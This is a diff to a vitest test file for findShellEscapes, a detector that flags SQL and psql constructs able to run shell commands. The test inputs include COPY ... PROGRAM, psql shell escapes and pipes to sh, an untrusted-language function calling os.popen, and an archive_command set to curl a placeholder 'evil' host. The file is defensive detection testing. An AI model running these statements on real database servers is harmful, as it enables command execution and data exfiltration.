@@ -1,6 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { findShellEscapes } from '../../../src/db/package-safety.js';
 
+const kinds = (sql: string) => findShellEscapes(sql).map((e) => `${e.line} ${e.kind}`);
+
 describe('findShellEscapes', () => {
   it('finds COPY … PROGRAM, \\!, \\copy … program and psql pipes with their lines', () => {
     const sql = [
@@ -13,16 +15,66 @@ describe('findShellEscapes', () => {
       "SELECT 'copy is fine';",
       "COPY t TO '/tmp/x.csv';",
     ].join('\n');
-    expect(findShellEscapes(sql).map((e) => `${e.line} ${e.kind}`)).toEqual([
-      '2 copy-program',
-      '3 psql-shell',
-      '4 psql-pipe',
-      '5 copy-program',
-      '6 psql-pipe',
-    ]);
+    expect(kinds(sql)).toEqual(['2 copy-program', '3 psql-shell', '4 psql-pipe', '5 copy-program', '6 psql-pipe']);
   });
 
-  it('passes ordinary SQL, COPY to a file and comments mentioning the words', () => {
+  it('passes ordinary SQL, COPY to a file, comments mentioning the words and \\setenv alone', () => {
     expect(findShellEscapes("-- copy to program is refused\nCOPY t FROM STDIN;\nSELECT 'program';\n")).toEqual([]);
+    expect(
+      findShellEscapes(
+        "\\setenv PAGER less\n\\echo 'done'\nCREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1';\n",
+      ),
+    ).toEqual([]);
+    expect(
+      findShellEscapes('CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;\n'),
+    ).toEqual([]);
+  });
+
+  it('sees through comments inside the statement and a second meta-command on one line', () => {
+    expect(kinds("COPY t FROM /* hidden */ PROGRAM 'id';")).toEqual(['1 copy-program']);
+    expect(kinds("COPY t TO -- line comment\n  PROGRAM 'id';")).toEqual(['1 copy-program']);
+    expect(kinds('SELECT 1;\n\\echo harmless \\! id\n')).toEqual(['2 psql-shell']);
+  });
+
+  it('backquotes (psql runs them in a shell), editors, \\g and \\w pipes', () => {
+    expect(kinds('\\set who `id -un`\n')).toEqual(['1 psql-shell']);
+    expect(kinds('\\ef my_function\n')).toEqual(['1 psql-shell']);
+    expect(kinds('SELECT 1 \\g |sh\n')).toEqual(['1 psql-pipe']);
+    expect(kinds('\\w |cat > /tmp/q\n')).toEqual(['1 psql-pipe']);
+  });
+
+  it('untrusted languages and ALTER SYSTEM of a command setting', () => {
+    const sql = [
+      'CREATE EXTENSION IF NOT EXISTS plpython3u;',
+      'CREATE FUNCTION sh(c text) RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen(c).read() $$;',
+      "DO LANGUAGE plperlu $$ system('id') $$;",
+      "ALTER SYSTEM SET archive_command = 'curl http://evil';",
+      "ALTER SYSTEM SET work_mem = '64MB';",
+    ].join('\n');
+    expect(kinds(sql)).toEqual([
+      '1 untrusted-language',
+      '2 untrusted-language',
+      '3 untrusted-language',
+      '4 server-command',
+    ]);
+  });
+});
+
+describe('findShellEscapes on data', () => {
+  it('an INSERT whose values mention copy … from program is data, not a COPY', () => {
+    expect(kinds("INSERT INTO report (name) VALUES ('Copy of the loans from Program X');")).toEqual([]);
+    expect(kinds("SELECT format('COPY %I FROM PROGRAM %L', 't', 'id');")).toEqual(['1 copy-program']);
+  });
+});
+
+describe('findShellEscapes in function bodies', () => {
+  it('a static COPY … PROGRAM in PL/pgSQL or an SQL function body', () => {
+    expect(kinds("DO $$ BEGIN COPY t FROM PROGRAM 'id'; END $$;")).toEqual(['1 copy-program']);
+    expect(kinds("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $f$COPY t TO PROGRAM 'id'$f$;")).toEqual([
+      '1 copy-program',
+    ]);
+    expect(kinds("DO $$ BEGIN IF true THEN EXECUTE E'COPY t FROM PROGRAM ''id'''; END IF; END $$;")).toEqual([
+      '1 copy-program',
+    ]);
   });
 });
